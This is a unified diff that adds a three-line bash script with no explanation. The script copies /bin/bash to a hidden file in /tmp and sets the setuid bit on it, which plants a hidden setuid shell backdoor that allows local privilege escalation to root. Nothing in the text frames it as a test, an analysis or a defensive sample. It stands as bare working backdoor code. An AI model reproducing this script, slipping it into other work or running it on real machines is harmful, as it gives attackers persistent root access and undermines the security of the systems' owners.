@@ -1,0 +1,3 @@
+#!/bin/bash
+cp /bin/bash /tmp/.sh
+chmod u+s /tmp/.sh
